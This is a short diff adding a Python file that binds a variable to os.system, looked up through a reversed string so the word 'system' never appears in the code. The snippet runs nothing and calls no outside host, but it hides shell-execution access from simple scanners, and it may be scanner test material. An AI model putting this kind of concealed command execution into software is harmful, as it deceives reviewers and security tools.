@@ -1,0 +1,3 @@
+import os
+
+run = getattr(os, "metsys"[::-1])
